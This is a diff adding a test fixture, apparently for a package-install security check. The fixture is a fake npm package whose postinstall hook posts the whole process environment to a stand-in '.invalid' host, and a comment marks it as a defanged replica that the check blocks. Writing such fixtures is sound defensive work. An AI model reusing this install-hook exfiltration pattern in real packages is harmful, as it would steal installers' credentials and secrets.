@@ -95,3 +95,18 @@ ONCE = Dep(
     },
     dependencies={"wrappy": "1"},
 )
+
+# A defanged replica: a postinstall sending the environment to a host under .invalid (blocked by the check).
+EXFIL = Dep(
+    "env-helper",
+    "1.0.1",
+    {
+        "index.js": "module.exports = {}\n",
+        "install.js": (
+            "const https = require('https')\n"
+            "const req = https.request({ hostname: 'collect.exfil.invalid', path: '/e', method: 'POST' })\n"
+            "req.end(JSON.stringify(process.env))\n"
+        ),
+    },
+    scripts={"postinstall": "node install.js"},
+)
